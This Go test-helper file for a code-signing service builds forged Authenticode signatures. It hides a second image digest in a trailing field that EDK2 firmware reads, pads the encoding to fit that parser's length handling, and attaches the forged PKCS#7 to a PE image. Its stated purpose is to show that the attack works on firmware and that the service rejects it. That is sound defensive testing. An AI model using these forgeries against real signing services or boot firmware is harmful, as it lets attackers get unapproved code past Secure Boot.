package boottest

import (
	"bytes"
	"crypto"
	"crypto/sha256"
	"crypto/x509"
	"encoding/binary"
	"errors"
	"fmt"

	"golang.org/x/crypto/cryptobyte"
	cbasn1 "golang.org/x/crypto/cryptobyte/asn1"

	"signet.dev/authenticode"
	"signet.dev/cms"
	"signet.dev/pe"
)

// The forgeries below are what an attacker with an ordinary client account
// can hand a signing service that trusts client-built Authenticode
// structures. They exist so the tests can show that firmware accepts them
// (the attack is real) and that signet refuses them.

// HiddenPayloadSPC returns a DER SpcIndirectDataContent that shows the image
// digest shown in its messageDigest, as every DER reader that stops after
// the two defined elements sees it, and carries hidden as a trailing OCTET
// STRING. EDK2's AuthenticodeVerify (CryptoPkg BaseCryptLib,
// CryptAuthenticode.c) compares the LAST digest-size bytes of the
// SEQUENCE's contents with the image it loads, so firmware checks hidden.
//
// EDK2 reads the SEQUENCE length only in short form or as two bytes (0x82):
// when the contents would be 128 to 255 bytes long, an OCTET STRING of
// filler goes before the hidden digest so that DER needs the 0x82 form.
func HiddenPayloadSPC(shown, hidden []byte) ([]byte, error) {
	good, err := authenticode.SpcIndirectDataContent(crypto.SHA256, shown)
	if err != nil {
		return nil, err
	}
	if len(hidden) != sha256.Size {
		return nil, fmt.Errorf("hidden digest: %d bytes, not 32", len(hidden))
	}
	in := cryptobyte.String(good)
	var body cryptobyte.String
	if !in.ReadASN1(&body, cbasn1.SEQUENCE) {
		return nil, errors.New("SpcIndirectDataContent: not a SEQUENCE")
	}
	build := func(filler int) ([]byte, error) {
		var b cryptobyte.Builder
		b.AddASN1(cbasn1.SEQUENCE, func(b *cryptobyte.Builder) {
			b.AddBytes(body)
			if filler > 0 {
				b.AddASN1OctetString(make([]byte, filler))
			}
			b.AddASN1OctetString(hidden)
		})
		return b.Bytes()
	}
	spc, err := build(0)
	if err != nil {
		return nil, err
	}
	if n := len(body) + 2 + len(hidden); n >= 128 && n < 256 {
		// The filler's own header (2 or 3 bytes) keeps it past 255.
		spc, err = build(256 - n)
	}
	return spc, err
}

// ContentOctets returns the content octets of a DER SEQUENCE: what an
// Authenticode messageDigest covers of the SpcIndirectDataContent.
func ContentOctets(spc []byte) ([]byte, error) {
	s := cryptobyte.String(spc)
	var inner cryptobyte.String
	if !s.ReadASN1(&inner, cbasn1.SEQUENCE) || !s.Empty() {
		return nil, errors.New("not one DER SEQUENCE")
	}
	return inner, nil
}

// SignedAttributesFor returns Authenticode signed attributes, as
// authenticode.Prepare makes them, whose messageDigest is the SHA-256 of
// spc's content octets: the TBS a signer that trusts the client's
// SpcIndirectDataContent signs.
func SignedAttributesFor(spc []byte) ([]byte, error) {
	octets, err := ContentOctets(spc)
	if err != nil {
		return nil, err
	}
	// Prepare's attributes for any digest, with the messageDigest
	// replaced: same order, same encoding.
	p, err := authenticode.PrepareDigest(make([]byte, sha256.Size), SignedAt)
	if err != nil {
		return nil, err
	}
	attrs, err := cms.ParseAttributes(p.SignedAttributes)
	if err != nil {
		return nil, err
	}
	md := sha256.Sum256(octets)
	var b cryptobyte.Builder
	b.AddASN1OctetString(md[:])
	for i := range attrs {
		if attrs[i].Type.Equal(cms.OIDMessageDigest) {
			attrs[i].Values = b.BytesOrPanic()
		}
	}
	return cms.MarshalAttributes(attrs)
}

// AssembleAuthenticode returns the DER PKCS#7 SignedData an Authenticode
// signature embeds: spc as its content, cert, and one signer whose
// signature sig covers signedAttrs. Nothing is checked: a forgery is what
// it is for.
func AssembleAuthenticode(spc, signedAttrs []byte, cert *x509.Certificate, sig []byte) ([]byte, error) {
	si, err := cms.NewSignerInfo(cert, crypto.SHA256)
	if err != nil {
		return nil, err
	}
	si.SignedAttributes = signedAttrs
	si.Signature = sig
	sd := &cms.SignedData{
		ContentType:  authenticode.OIDSpcIndirectData,
		Content:      spc,
		Certificates: []*x509.Certificate{cert},
		Signers:      []cms.SignerInfo{si},
	}
	return sd.Marshal()
}

// AttachPKCS7 returns the unsigned PE image with p7 appended as its only
// WIN_CERTIFICATE (revision 2.0, PKCS_SIGNED_DATA), the certificate table
// entry pointing at it and the CheckSum recomputed, whatever p7 holds.
func AttachPKCS7(image, p7 []byte) ([]byte, error) {
	f, err := pe.Parse(bytes.NewReader(image), int64(len(image)))
	if err != nil {
		return nil, err
	}
	if f.CertificateTable().Size != 0 {
		return nil, errors.New("image is already signed")
	}
	out := append([]byte(nil), image...)
	for len(out)%8 != 0 {
		out = append(out, 0)
	}
	start := len(out)
	var hdr [8]byte
	binary.LittleEndian.PutUint32(hdr[0:], uint32(8+len(p7)))
	binary.LittleEndian.PutUint16(hdr[4:], authenticode.WinCertRevision2_0)
	binary.LittleEndian.PutUint16(hdr[6:], authenticode.WinCertTypePKCSSignedData)
	out = append(append(out, hdr[:]...), p7...)
	for len(out)%8 != 0 {
		out = append(out, 0)
	}
	dd := f.DataDirectoryOffset(pe.DirCertificateTable)
	binary.LittleEndian.PutUint32(out[dd:], uint32(start))
	binary.LittleEndian.PutUint32(out[dd+4:], uint32(len(out)-start))
	g, err := pe.Parse(bytes.NewReader(out), int64(len(out)))
	if err != nil {
		return nil, err
	}
	sum, err := g.ComputeCheckSum()
	if err != nil {
		return nil, err
	}
	binary.LittleEndian.PutUint32(out[g.CheckSumOffset():], sum)
	return out, nil
}
